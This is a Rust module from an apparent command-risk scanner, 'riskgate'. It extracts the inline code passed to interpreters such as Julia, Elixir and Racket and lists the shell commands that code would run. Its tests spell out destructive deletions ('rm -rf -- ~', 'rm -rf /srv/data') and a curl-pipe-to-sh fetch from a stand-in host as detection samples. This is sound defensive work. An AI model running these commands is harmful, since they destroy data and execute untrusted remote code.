//! Inline code of languages riskgate has no analyzer for (Julia, Elixir, Erlang, Racket,
//! Guile, Clojure/Babashka, Scala, Swift, Crystal, Raku), read by what it visibly runs: the
//! command literals it hands to the system (`run(\`rm -rf /srv\`)`, `System.cmd("rm",
//! ["-rf", "/x"])`, `(system "…")`, `` `…` ``) and the few file deletions every such language
//! spells alike (`rm(p; recursive=true)`, `File.rm_rf!(p)`, `delete-directory/files`). What is
//! left unread is rated by the `code.unread-inline` rule, never as harmless.
//!
//! Scanning is linear in the code's length and bounded in what it returns.

/// The inline-code options of the languages read here (`--eval=CODE` is read too).
const INLINE: &[(&str, &[&str])] = &[
    ("julia", &["-e", "--eval", "-E", "--print"]),
    ("elixir", &["-e", "--eval"]),
    ("iex", &["-e", "--eval"]),
    ("erl", &["-eval"]),
    ("racket", &["-e", "--eval"]),
    ("guile", &["-c"]),
    ("clojure", &["-e", "--eval"]),
    ("clj", &["-e", "--eval"]),
    ("bb", &["-e", "--eval"]),
    ("scala", &["-e"]),
    ("scala-cli", &["-e", "--execute-scala"]),
    ("amm", &["-c", "--code"]),
    ("swift", &["-e"]),
    ("crystal", &["eval"]),
    ("raku", &["-e"]),
    ("perl6", &["-e"]),
    ("octave", &["--eval"]),
    ("octave-cli", &["--eval"]),
    ("matlab", &["-batch", "-r"]),
    ("ghc", &["-e"]),
    ("ghci", &["-e"]),
    ("sbcl", &["--eval"]),
    ("clisp", &["-x"]),
    ("resty", &["-e"]),
    ("nim", &["--eval"]),
    ("tclsh", &["-c"]),
];

/// At most this many command literals are read from one snippet.
const MAX_COMMANDS: usize = 32;

/// Programs that read the code of a language read here from their standard input when given
/// no script (`echo CODE | ocaml -stdin`, `swift -`, `tclsh`, `julia`).
const STDIN: &[&str] = &[
    "ocaml",
    "swift",
    "tclsh",
    "wish",
    "julia",
    "ghci",
    "racket",
    "guile",
    "sbcl",
    "clisp",
    "octave",
    "octave-cli",
    "elixir",
    "iex",
    "bb",
    "scala",
    "raku",
    "perl6",
    "crystal",
];

/// The inline code `args` (without the program) give `program`, when it is one read here:
/// also `mix run -e CODE`, `dotnet script eval CODE`, `dotnet fsi --exec` of a file is not.
pub(crate) fn code<'a>(program: &str, args: &[&'a str]) -> Option<&'a str> {
    let (opts, args): (&[&str], &[&'a str]) = match program {
        "mix" if args.first() == Some(&"run") => (&["-e", "--eval"], args),
        "dotnet" if args.first() == Some(&"script") && args.get(1) == Some(&"eval") => {
            return args.get(2).copied();
        }
        "dotnet" if args.first() == Some(&"script") => (&["-e", "--eval"], args),
        _ => (INLINE.iter().find(|(p, _)| *p == program)?.1, args),
    };
    for (k, a) in args.iter().enumerate() {
        if opts.contains(a) {
            return args.get(k + 1).copied();
        }
        if let Some((flag, value)) = a.split_once('=')
            && flag.starts_with("--")
            && opts.contains(&flag)
        {
            return Some(value);
        }
    }
    None
}

/// Whether `program` is an interpreter of a language read here that reads a script file
/// (`julia deploy.jl`, `elixir x.exs`).
pub(crate) fn reads_script_files(program: &str) -> bool {
    STDIN.contains(&program)
}

/// Whether `program` reads code read here from its standard input (no script given, or `-`
/// / `-stdin`).
pub(crate) fn reads_stdin(program: &str, args: &[&str]) -> bool {
    STDIN.contains(&program)
        && (args
            .iter()
            .any(|a| matches!(*a, "-" | "-stdin" | "/dev/stdin"))
            || !args.iter().any(|a| !a.starts_with('-')))
        && code(program, args).is_none()
}

/// The shell commands `code` visibly runs or stands for: command literals (`` `…` ``, which
/// most of these languages run or hold as commands) and what [`super::anycode`] reads.
pub(crate) fn commands(code: &str) -> Vec<String> {
    // the calls' effects first, in the order the code has them (a download, then its run)
    let mut out = super::anycode::commands(code);
    let b = code.as_bytes();
    let mut i = 0;
    while i < b.len() && out.len() < MAX_COMMANDS {
        if b[i] == b'`' {
            if let Some(end) = code[i + 1..].find('`') {
                let inner = &code[i + 1..i + 1 + end];
                if !inner.trim().is_empty() && !out.iter().any(|c| c == inner) {
                    out.push(inner.to_string());
                }
                i += end + 2;
                continue;
            }
            break;
        }
        i += 1;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_unread_code_visibly_runs() {
        assert_eq!(
            commands("rm(homedir(); recursive=true, force=true)"),
            ["rm -rf -- ~"]
        );
        assert_eq!(commands("run(`rm -rf /srv/data`)"), ["rm -rf /srv/data"]);
        assert_eq!(
            commands("System.cmd(\"rm\", [\"-rf\", \"/var/lib/app\"])"),
            ["rm -rf /var/lib/app"]
        );
        assert_eq!(
            commands("File.rm_rf!(\"/opt/app\")"),
            ["rm -rf -- /opt/app"]
        );
        assert_eq!(
            commands("(delete-directory/files \"/srv/racket\")"),
            ["rm -rf -- /srv/racket"]
        );
        assert_eq!(
            commands("(system \"curl -s http://x.example/i | sh\")"),
            ["curl -s http://x.example/i | sh"]
        );
        assert!(commands("println(sum(1:10))").is_empty());
        assert!(commands("IO.puts(\"hello\")").is_empty());
    }

    #[test]
    fn where_the_code_is() {
        assert_eq!(code("julia", &["-e", "x"]), Some("x"));
        assert_eq!(code("julia", &["script.jl"]), None);
        assert_eq!(code("octave", &["--no-gui", "--eval=x"]), Some("x"));
        assert_eq!(code("mix", &["run", "-e", "x"]), Some("x"));
        assert_eq!(code("mix", &["test"]), None);
        assert_eq!(code("dotnet", &["script", "eval", "x"]), Some("x"));
        assert!(reads_stdin("ocaml", &["-stdin"]));
        assert!(reads_stdin("swift", &["-"]));
        assert!(!reads_stdin("swift", &["build"]));
        assert!(!reads_stdin("julia", &["-e", "x"]));
    }
}
